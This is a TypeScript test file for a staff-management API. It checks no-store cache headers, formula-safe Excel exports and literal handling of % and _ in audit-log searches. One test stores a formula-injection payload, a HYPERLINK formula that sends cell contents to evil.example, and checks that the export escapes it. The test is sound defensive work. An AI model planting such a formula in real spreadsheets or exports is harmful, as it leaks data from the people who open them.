import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { staff } from '../../db/schema/index.js';
import { type Client, createTestApp, type TestApp } from '../../test/harness.js';

/** Issue 10, finding 3: API answers are not cached, exports are formula-safe, LIKE takes user text literally. */
let t: TestApp;
let admin: Client;
beforeAll(async () => {
  t = await createTestApp();
  admin = await t.login('admin');
});
afterAll(() => t?.close());

describe('output safety (issue 10, finding 3)', () => {
  it('every JSON answer of the API carries Cache-Control: no-store, errors and sign-in included; downloads keep theirs', async () => {
    for (const res of [await admin.get('/api/staff'), await admin.get('/api/no-such-thing'), await t.anonymous.get('/api/staff'), await admin.get('/api/imports/kinds')]) {
      expect(res.headers['content-type']).toMatch(/application\/json/);
      expect(res.headers['cache-control']).toBe('no-store');
    }
    const login = await t.app.inject({ method: 'POST', url: '/api/auth/login', payload: { staffNo: 'admin', password: 'wrong' } });
    expect(login.headers['cache-control']).toBe('no-store');
    const download = await admin.get('/api/imports/templates/staff');
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toMatch(/spreadsheetml/);
    expect(download.headers['cache-control']).toBe('no-store');
    expect(download.headers['content-disposition']).toMatch(/^attachment;/);
  });

  it('a staff name that looks like a formula is exported as text, with an apostrophe', async () => {
    const [s] = await t.database.db.select({ id: staff.id, staffNo: staff.staffNo }).from(staff).where(eq(staff.staffNo, 'fs_staff'));
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
    await t.database.db.update(staff).set({ name: evil }).where(eq(staff.id, s.id));
    const res = await admin.get('/api/staff/export.xlsx');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    const header = (ws.getRow(1).values as unknown[]).map(String);
    const noCol = header.indexOf('工号');
    const nameCol = header.indexOf('姓名');
    let found: unknown;
    ws.eachRow((row) => {
      if (row.getCell(noCol).value === 'fs_staff') found = row.getCell(nameCol).value;
    });
    expect(found).toBe(`'${evil}`);
  });

  it('the audit log search takes % and _ literally', async () => {
    const all = (await admin.get('/api/audit?pageSize=1')).json().total as number;
    expect(all).toBeGreaterThan(0);
    expect((await admin.get(`/api/audit?actor=${encodeURIComponent('%')}`)).json().total).toBe(0);
    expect((await admin.get(`/api/audit?actor=${encodeURIComponent('_')}`)).json().total).toBe(0);
    expect((await admin.get(`/api/audit?action=${encodeURIComponent('%')}`)).json().total).toBe(0);
  });
});
